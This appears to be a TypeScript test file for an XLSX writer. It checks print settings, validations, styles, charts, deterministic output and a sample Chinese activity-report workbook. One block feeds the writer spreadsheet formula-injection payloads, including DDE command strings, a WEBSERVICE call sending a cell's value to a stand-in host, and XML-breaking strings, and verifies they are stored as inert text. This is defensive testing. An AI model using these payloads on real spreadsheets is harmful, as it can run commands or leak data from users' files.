import { countEveryStep, stepsOf } from '../steps';

// What is counted comes after what counts.

import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { PlanCell } from '#domain/sheet/sheet-plan';
import { writeWorkbook } from '#xlsx/write';
import { columnOf, EMPTY_SHEET, PLAN_OF_EVERYTHING, workbook } from './plan-of-everything';

countEveryStep();

const partsOf = (bytes: Uint8Array) =>
  new Map(Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)]));

async function written(plan = PLAN_OF_EVERYTHING): Promise<(part: string) => string> {
  const parts = partsOf(await writeWorkbook(plan));
  return (part) => parts.get(part) ?? '';
}

describe('text that somebody typed never becomes a formula or a way out', () => {
  const corpus = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠A',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.com","点我")',
    '=WEBSERVICE("http://example.com/?"&A1)',
    '=IMPORTXML("http://example.com","//a")',
    "='http://example.com/[a.xlsx]b'!A1",
    '=1"><f>1</f><x a="',
    ']]><f>1+1</f>',
    '#REF!',
    'http://example.com',
    'mailto:a@example.com',
  ];
  const plan = {
    ...columnOf(corpus.map((value) => ({ value, style: 'text' as const, note: value }))),
    ...{ names: [] },
  };

  it('holds no formula, no external part, no relationship that leaves the package', async () => {
    const parts = partsOf(await writeWorkbook(plan));
    const everything = [...parts].map(([name, content]) => `${name}\n${content}`).join('\n');
    expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >/]|<hyperlink/);
    expect(everything).not.toMatch(/TargetMode="External"|externalLink|connections|oleObject|ddeLink/);
  });

  it('prefixes what Excel would take for a formula on the next edit', async () => {
    const part = await written(plan);
    const formats = [...part('xl/styles.xml').matchAll(/<cellXfs.*<\/cellXfs>/g)][0]?.[0].match(/<xf [^>]*>/g) ?? [];
    const cells = [...part('xl/worksheets/sheet1.xml').matchAll(/<c r="A(\d+)"[^>]* s="(\d+)"/g)];
    const prefixed = cells.filter(([, , format]) => formats[Number(format)]?.includes('quotePrefix="1"'));
    expect(prefixed.map(([, row]) => corpus[Number(row) - 1])).toEqual(corpus.filter((text) => !/^[\]hm]/.test(text)));
    expect(part('xl/styles.xml')).not.toMatch(/<protection/);
  });

  it('keeps the look of a prefixed cell', async () => {
    const part = await written(columnOf([{ value: '=1', style: 'header' }]));
    expect(part('xl/styles.xml')).toMatch(
      /<xf [^>]*applyBorder="true"[^>]*quotePrefix="1"><alignment horizontal="center" vertical="center" wrapText="true"\/><\/xf>/,
    );
  });
});

describe('a sheet looks and prints as planned', () => {
  const detail = 'xl/worksheets/sheet2.xml';
  const expectations: readonly (readonly [string, string, RegExp])[] = [
    [
      'A4 landscape, one page wide',
      detail,
      /<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"\/>/,
    ],
    [
      'one page in all where asked',
      'xl/worksheets/sheet1.xml',
      /<pageSetup paperSize="9" orientation="portrait" fitToWidth="1" fitToHeight="1"\/>/,
    ],
    [
      'a new page above rows 20 and 35',
      detail,
      /<\/headerFooter><rowBreaks count="2" manualBreakCount="2"><brk id="19" max="16383" man="1"\/><brk id="34" max="16383" man="1"\/><\/rowBreaks>/,
    ],
    ['centred between its margins', detail, /<printOptions horizontalCentered="1"\/>/],
    ['with a footer', detail, /<oddFooter>&amp;L科技处&amp;C第 &amp;P 页 共 &amp;N 页&amp;R2023-05-22<\/oddFooter>/],
    [
      'rows repeated on each page, the sheet quoted',
      'xl/workbook.xml',
      /<definedName name="_xlnm.Print_Titles" localSheetId="1">'附件4-活动清单'!\$2:\$4</,
    ],
    ['a defined name', 'xl/workbook.xml', /<definedName name="活动明细_场次">'附件4-活动清单'!\$E\$5:\$E\$44</],
    ['panes that stay', detail, /<pane xSplit="2" ySplit="4" topLeftCell="C5" state="frozen"/],
    ['a filter', detail, /<autoFilter ref="A4:H44"\/>/],
    ['row heights', detail, /<row r="2" ht="36" customHeight="1">/],
    ['column widths', detail, /<col min="2" max="2" width="36" customWidth="true"\/>/],
    ['a short list in the validation', detail, /<formula1>"科普讲座,科普展览,科普作品\(产品\)研发,/],
    ['a long list on a hidden sheet', detail, /sqref="H5:H44"[^>]*><formula1>选项!\$A\$1:\$A\$9</],
    ['that sheet hidden', 'xl/workbook.xml', /<sheet name="选项" sheetId="4" r:id="rId4" state="hidden"\/>/],
    ['a prompt of two lines', detail, /promptTitle="活动类型" prompt="从九类中选一类。&#10;没有合适的/],
    ['a warning that lets people go on', detail, /type="whole" sqref="E5:E44"[^>]*errorStyle="warning"/],
    ['a date range by serials', detail, /<formula1>45047<\/formula1><formula2>45107<\/formula2>/],
    ['a live formula with its result', detail, /<f>SUM\(E5:E44\)<\/f><v>2460<\/v>/],
    [
      'a link inside the workbook',
      'xl/worksheets/sheet1.xml',
      /<hyperlink ref="A\d+" location="&apos;附件4-活动清单&apos;!B5"\/>/,
    ],
    ['a note', 'xl/comments2.xml', /<comment ref="H5"[^>]*>.*场次与附件2不一致/],
    ['charts that name their sheet as Excel does', 'xl/charts/chart1.xml', /<c:f>'单位×类型'!\$B\$2:\$B\$6<\/c:f>/],
    ['charts in the planned colours', 'xl/charts/chart2.xml', /2E75B6/],
    ['stacked bars that lie on each other', 'xl/charts/chart2.xml', /<c:overlap val="100"\/>/],
    ['a title', 'docProps/core.xml', /<dc:title>2023年科技活动周汇总</],
  ];
  it.each(expectations)('%s', async (_, part, pattern) => {
    expect((await written())(part)).toMatch(pattern);
  });

  /** The format of A1, and the font and number format it names. */
  const look = async (cell: PlanCell) => {
    const part = await written(columnOf([cell]));
    const styles = part('xl/styles.xml');
    const [, format] = /<c r="A1"[^>]* s="(\d+)"/.exec(part('xl/worksheets/sheet1.xml')) ?? [];
    const inside = (list: string, item: RegExp) =>
      new RegExp(`<${list}[ >].*?</${list}>`).exec(styles)?.[0].match(item) ?? [];
    const xf = inside('cellXfs', /<xf [^>]*?(?:\/>|>.*?<\/xf>)/g)[Number(format)] ?? '';
    const font = inside('fonts', /<font>.*?<\/font>/g)[Number(/fontId="(\d+)"/.exec(xf)?.[1])];
    const number = new RegExp(`<numFmt numFmtId="${/numFmtId="(\d+)"/.exec(xf)?.[1]}" formatCode="(.*?)"/>`).exec(
      styles,
    );
    return { xf, font, numberFormat: number?.[1] };
  };

  it('leaves room before text, and only where the style says so', async () => {
    expect((await look({ value: '科普讲座', style: 'text' })).xf).toContain(
      '<alignment horizontal="left" vertical="center" wrapText="true" indent="1"/>',
    );
    expect((await look({ value: '=1', style: 'text' })).xf).toMatch(/quotePrefix="1"><alignment [^>]* indent="1"\/>/);
    expect((await look({ value: '是', style: 'centre' })).xf).not.toContain('indent');
  });

  it('shows money as a large figure with its fen', async () => {
    const { font, numberFormat } = await look({ value: 12.5, style: 'figureMoney' });
    expect(numberFormat).toBe('#,##0.00');
    expect(font).toMatch(/<b\/>.*<sz val="16"\/>.*<name val="黑体"\/>/);
    expect((await look({ value: 12, style: 'figure' })).numberFormat).toBe('#,##0');
  });

  it('draws borders around the whole of a merge', async () => {
    const part = await written();
    const row = /<row r="45".*?<\/row>/.exec(part(detail))?.[0] ?? '';
    const formats = [...row.matchAll(/<c r="[A-D]45"[^>]* s="(\d+)"/g)].map(([, format]) => format);
    expect(formats).toHaveLength(4);
    expect(new Set(formats).size).toBe(1);
  });

  it('puts choices with a comma on the hidden sheet, each distinct list once', async () => {
    const list = (left: number, choices: readonly string[]) => ({
      range: { top: 1, left, bottom: 9, right: left },
      validation: { kind: 'list' as const, choices },
      onInvalid: 'stop' as const,
    });
    const validations = [
      list(1, ['甲,乙', '丙']),
      list(2, ['甲,乙', '丙']),
      list(3, ['"引号"']),
      list(4, ['甲', '乙']),
    ];
    const part = await written(workbook({ ...EMPTY_SHEET, name: '选项', validations }));
    expect(part('xl/worksheets/sheet1.xml').match(/<formula1>.*?<\/formula1>/g)).toEqual([
      '<formula1>选项2!$A$1:$A$2</formula1>',
      '<formula1>选项2!$A$1:$A$2</formula1>',
      '<formula1>选项2!$B$1:$B$1</formula1>',
      '<formula1>"甲,乙"</formula1>',
    ]);
  });
});

it('gives the same bytes for the same plan', async () => {
  const first = await writeWorkbook(PLAN_OF_EVERYTHING);
  await new Promise((resolve) => setTimeout(resolve, 20));
  expect(Buffer.from(await writeWorkbook(PLAN_OF_EVERYTHING)).equals(Buffer.from(first))).toBe(true);
});

it('is read the same by another library', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'xlsx-'));
  try {
    const file = join(folder, 'book.xlsx');
    writeFileSync(file, await writeWorkbook(PLAN_OF_EVERYTHING));
    const script = join(__dirname, 'second-reader.mjs');
    const rows = JSON.parse(execFileSync(process.execPath, [script, file, '附件4-活动清单'], { encoding: 'utf8' }));
    expect(rows[5]).toEqual([
      2,
      '=不变',
      '科普作品(产品)研发',
      '2023-05-22T00:00:00.000Z',
      6,
      2.5,
      '+8613000000001',
      null,
    ]);
    expect(rows[44].slice(4, 6)).toEqual([2460, 1025]);
  } finally {
    rmSync(folder, { recursive: true });
  }
});

it('writes twice as many rows in twice the steps, and few for each cell', async () => {
  const columns = 21;
  const plan = (rows: number) =>
    workbook({
      ...EMPTY_SHEET,
      rows: Array.from({ length: rows }, (_, row) => ({
        cells: Array.from({ length: columns }, (_, column) =>
          column % 2 === 0
            ? { value: row * column, style: 'count' as const }
            : { value: `活动${row}-${column}`, style: 'text' as const },
        ),
      })),
    });
  const { steps: once } = await stepsOf(() => writeWorkbook(plan(2_000)));
  const { steps: twice } = await stepsOf(() => writeWorkbook(plan(4_000)));
  expect(once / (2_000 * columns)).toBeGreaterThan(5);
  expect(once / (2_000 * columns)).toBeLessThan(200);
  expect(twice / once).toBeLessThan(2.1);
});
